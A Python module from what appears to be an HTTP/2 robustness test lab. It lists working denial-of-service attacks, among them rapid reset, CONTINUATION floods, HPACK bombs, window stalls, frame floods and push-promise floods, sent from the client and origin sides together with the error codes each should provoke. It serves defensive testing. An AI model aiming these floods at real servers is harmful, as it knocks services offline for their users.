"""Every attack, on the client's side and on the origin's. `p.stream` is open when an attack begins."""

from __future__ import annotations

from lab.http2 import codes
from lab.http2.codes import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_SIZE,
    GOAWAY,
    HEADERS,
    LARGEST_WINDOW,
    PADDED,
    PING,
    PRIORITY,
    PRIORITY_UPDATE,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Code,
    frame,
    number,
    setting,
)  # fmt: skip
from lab.http2.hostile.attack import ENOUGH, Attack, flood, in_pieces, indexed, new_entry
from lab.http2.peer import Peer

FLOW = frozenset({Code.FLOW_CONTROL_ERROR})
PROTOCOL = frozenset({Code.PROTOCOL_ERROR})
SIZE = frozenset({Code.FRAME_SIZE_ERROR})
CLOSED = frozenset({Code.STREAM_CLOSED, Code.PROTOCOL_ERROR, Code.ENHANCE_YOUR_CALM})
LISTS = ENOUGH | {Code.COMPRESSION_ERROR}
WIDE = setting(codes.INITIAL_WINDOW_SIZE, LARGEST_WINDOW)
# The first index of the dynamic table (RFC 7541, 2.3.3).
FIRST_DYNAMIC = 62


def later(p: Peer, index: int) -> int:
    """A client's further streams."""
    return p.stream + 2 + 2 * index


def rapid_reset(p: Peer, count: int) -> None:
    block = p.block(p.fields(path="/hostile/rapid-reset/again"))
    flood(
        p,
        lambda n: frame(HEADERS, END_HEADERS | END_STREAM, later(p, n), block) + frame(RST_STREAM, 0, later(p, n), number(8)),
        count,
    )


def made_resets(p: Peer, count: int) -> None:
    """The server itself resets each stream, because of a WINDOW_UPDATE by 0."""
    block = p.block(p.fields(method="POST"))
    flood(p, lambda n: frame(HEADERS, END_HEADERS, later(p, n), block) + frame(WINDOW_UPDATE, 0, later(p, n), number(0)), count)


def continuations(p: Peer, count: int, payload: bytes) -> None:
    """A header section of its own stream, without an end; for an origin its response's."""
    stream = later(p, 0) if p.is_client else p.stream
    p.raw(HEADERS, 0, stream, p.block(p.fields()))
    flood(p, lambda _: frame(CONTINUATION, 0, stream, payload), count)


def bomb(p: Peer, count: int, value: bytes = b"v" * 4000) -> None:
    """A few bytes of HPACK that are many of a header list."""
    stream = later(p, 0) if p.is_client else p.stream
    in_pieces(p, p.block(p.fields()) + new_entry(b"x-bomb", value) + indexed(FIRST_DYNAMIC) * (count // 2), stream)


def crumbs(p: Peer, count: int) -> None:
    stream = later(p, 0) if p.is_client else p.stream
    in_pieces(p, p.block(p.fields()) + new_entry(b"cookie", b"a=b") + indexed(FIRST_DYNAMIC) * (2 * count), stream)


def zero_windows(p: Peer, count: int) -> None:
    for index in range(min(count, 90)):
        p.head(later(p, index))


def never_reading(p: Peer, count: int) -> None:
    """As many answers as streams are allowed, and answers to PING until nothing can be written any more; not one is read."""
    p.update(LARGEST_WINDOW - codes.WINDOW)
    block = p.block(p.fields())
    flood(p, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, later(p, n), block), min(count, 90), reads=False)
    flood(p, lambda _: frame(PING, 0, 0, bytes(8)), count, reads=False)


def streams_at_once(p: Peer, count: int) -> None:
    block = p.block(p.fields(method="POST"))
    flood(p, lambda n: frame(HEADERS, END_HEADERS, later(p, n), block), count // 10)


def on_closed(p: Peer, count: int) -> None:
    p.reset()
    flood(p, lambda _: frame(DATA, 0, p.stream, b"late"), count)


def beyond_window(p: Peer, _: int) -> None:
    if not p.is_client:
        p.head(end=False)
    flood(p, lambda _: frame(DATA, 0, p.stream, bytes(FRAME_SIZE)), 4_000)


def padding(p: Peer, count: int) -> None:
    """Windows full of padding: no more than they allow, and not a byte of content."""
    if not p.is_client:
        p.head(end=False)
    flood(p, lambda _: frame(DATA, PADDED, p.stream, b"\xff" + bytes(255)), 250)
    flood(p, lambda _: frame(DATA, PADDED, p.stream, b"\x00"), count)


def empty_data(p: Peer, count: int) -> None:
    if not p.is_client:
        p.head(end=False)
    flood(p, lambda _: frame(DATA, 0, p.stream), count)


def settings(p: Peer, count: int) -> None:
    flood(p, lambda n: frame(SETTINGS, 0, 0, setting(codes.HEADER_TABLE_SIZE, 4096 * (n % 2))), count)


BOTH = [
    Attack("settings", settings),
    Attack("pings", lambda p, count: flood(p, lambda _: frame(PING, 0, 0, bytes(8)), count)),
    Attack("empty-data", empty_data),
    Attack("priorities", lambda p, count: flood(p, lambda n: frame(PRIORITY, 0, 3 + 2 * (n % 100), number(0) + b"\x0f"),
        count), bearable=True),
    Attack("window-updates", lambda p, count: flood(p, lambda _: frame(WINDOW_UPDATE, 0, 0, number(1)), count), bearable=True),
    Attack("unknown-frames", lambda p, count: flood(p, lambda _: frame(0x77, 0, 0, bytes(16)), count), bearable=True),
    Attack("goaways", lambda p, count: flood(p, lambda _: frame(GOAWAY, 0, 0, bytes(8)), count), bearable=True),
    Attack("endless-continuation", lambda p, count: continuations(p, count // 10,
        b"\x00\x01a" + b"\x7f\xb1\x7e" + bytes(FRAME_SIZE - 6)), LISTS),
    Attack("empty-continuations", lambda p, count: continuations(p, count, b""), LISTS),
    Attack("window-overflow", lambda p, _: (p.update(LARGEST_WINDOW), p.update(LARGEST_WINDOW)), FLOW),
    Attack("hpack-bomb", bomb, LISTS),
    Attack("many-fields", lambda p, count: bomb(p, 4 * count, b"v"), LISTS),
    Attack("on-a-closed-stream", on_closed, CLOSED, bearable=True),
    Attack("oversized-frame", lambda p, _: p.raw(DATA, 0, p.stream, bytes(FRAME_SIZE + 1)), SIZE),
    Attack("announced-frame", lambda p, _: p.raw(HEADERS, 0, p.stream + 2, bytes(100), length=(1 << 24) - 1), SIZE),
    Attack("padding", padding, bearable=True),
    Attack("beyond-the-window", beyond_window, FLOW),
    Attack("idle-data", lambda p, _: p.data(b"x" * 100, p.stream + 1000), PROTOCOL),
]  # fmt: skip

CLIENT = [
    *BOTH,
    Attack("rapid-reset", rapid_reset),
    Attack("made-resets", made_resets),
    Attack("cookie-crumbs", crumbs, LISTS),
    Attack("zero-windows", zero_windows, bearable=True, settings=setting(codes.INITIAL_WINDOW_SIZE, 0)),
    Attack("never-reading", never_reading, bearable=True, settings=WIDE),
    Attack("streams-at-once", streams_at_once),
    Attack("even-stream", lambda p, _: p.head(2), PROTOCOL),
    Attack("lower-stream", lambda p, _: (p.head(later(p, 9)), p.head(later(p, 3))), PROTOCOL | CLOSED, bearable=True),
    Attack("priority-updates", lambda p, count: flood(
        p, lambda n: frame(PRIORITY_UPDATE, 0, 0, number(later(p, n % 1000)) + b"u=1"), count), bearable=True),
]  # fmt: skip


def interims(p: Peer, count: int) -> None:
    block = p.block([(":status", "103"), ("link", "</style.css>")])
    # The first one is in the table by now.
    again = p.block([(":status", "103"), ("link", "</style.css>")])
    p.raw(HEADERS, END_HEADERS, p.stream, block)
    flood(p, lambda _: frame(HEADERS, END_HEADERS, p.stream, again), count)


def long_trailers(p: Peer, count: int) -> None:
    p.head(end=False)
    p.data(b"content")
    in_pieces(p, new_entry(b"x-trailer", b"v" * 1000) + indexed(FIRST_DYNAMIC) * (count // 2), p.stream)


def two_trailers(p: Peer, _: int) -> None:
    p.head(end=False)
    p.head(fields=[("x-one", "1")])
    p.head(fields=[("x-two", "2")])
    p.data(b"late", end=True)


def pushes(p: Peer, count: int) -> None:
    block = p.block([(":method", "GET"), (":scheme", "https"), (":path", "/pushed"), (":authority", p.authority)])
    flood(p, lambda n: frame(PUSH_PROMISE, END_HEADERS, p.stream, number(2 + 2 * n) + block), count)


def leaving_and_staying(p: Peer, _: int) -> None:
    """GOAWAY says that the request was not seen; the answer comes all the same."""
    p.raw(GOAWAY, 0, 0, number(0) + number(0))
    p.head()


ORIGIN = [
    *BOTH,
    Attack("interim-responses", interims),
    Attack("long-trailers", long_trailers, LISTS),
    Attack("two-trailers", two_trailers, CLOSED, bearable=True),
    Attack("pushes", pushes),
    Attack("data-before-headers", lambda p, _: p.data(b"x" * 100, end=True), PROTOCOL),
    Attack("set-cookies", crumbs, LISTS),
    Attack("leaving-and-staying", leaving_and_staying, bearable=True),
    Attack("refusing", lambda p, _: p.reset(code=Code.REFUSED_STREAM), bearable=True),
    Attack("rising-goaways", lambda p, _: (
        p.raw(GOAWAY, 0, 0, number(1) + number(0)), p.raw(GOAWAY, 0, 0, number(LARGEST_WINDOW) + number(0)), p.head()),
        bearable=True),
    Attack("no-streams", lambda p, _: p.raw(SETTINGS, 0, 0, setting(codes.MAX_CONCURRENT_STREAMS, 0)), bearable=True),
    Attack("no-window", lambda p, _: None, bearable=True, settings=setting(codes.INITIAL_WINDOW_SIZE, 0), upload=1 << 20),
]  # fmt: skip
